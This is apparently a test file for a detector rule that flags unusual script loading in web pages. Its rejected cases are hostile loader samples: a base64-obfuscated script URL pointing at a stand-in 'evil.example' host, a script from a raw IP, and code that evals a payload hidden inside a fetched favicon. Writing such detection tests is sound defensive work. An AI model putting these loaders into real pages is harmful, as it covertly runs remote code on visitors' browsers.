import rule from './unusual-loader.js';
import { ruleTable } from '../test/helpers/rule-table.js';

ruleTable(rule, {
  valid: [
    { name: "a chat widget posting the page's URL to its own frame", code: "var f = document.createElement('iframe'); f.src = 'https://chat.vendor.example/f.html'; document.body.appendChild(f); f.onload = function () { f.contentWindow.postMessage({ page: location.href }, '*'); };" },
    "var s = document.createElement('script'); s.src = 'https://cdn.example/app.js'; document.head.appendChild(s);",
    "var s = document.createElement('script'); s.src = '/js/app.js';",
    "fetch('/favicon.ico');",
  ],
  invalid: [
    { code: "var s = document.createElement('script'); s.src = atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUveC5qcw=='); document.head.appendChild(s);", messageIds: ['hidden'], severity: 'high' },
    { code: "var s = document.createElement('script'); s.src = 'https://45.10.20.30/x.js';", messageIds: ['odd'] },
    { code: "fetch('https://cdn.example/favicon.ico').then(function(r){ return r.text(); }).then(function(t){ eval(t.slice(100)); });", messageIds: ['stego'], severity: 'high' },
    { name: 'the global eval called through window', code: "fetch('https://cdn.example/favicon.ico').then(function(r){ return r.text(); }).then(function(t){ window.eval(t.slice(100)); });", messageIds: ['stego'], severity: 'high' },
  ],
});
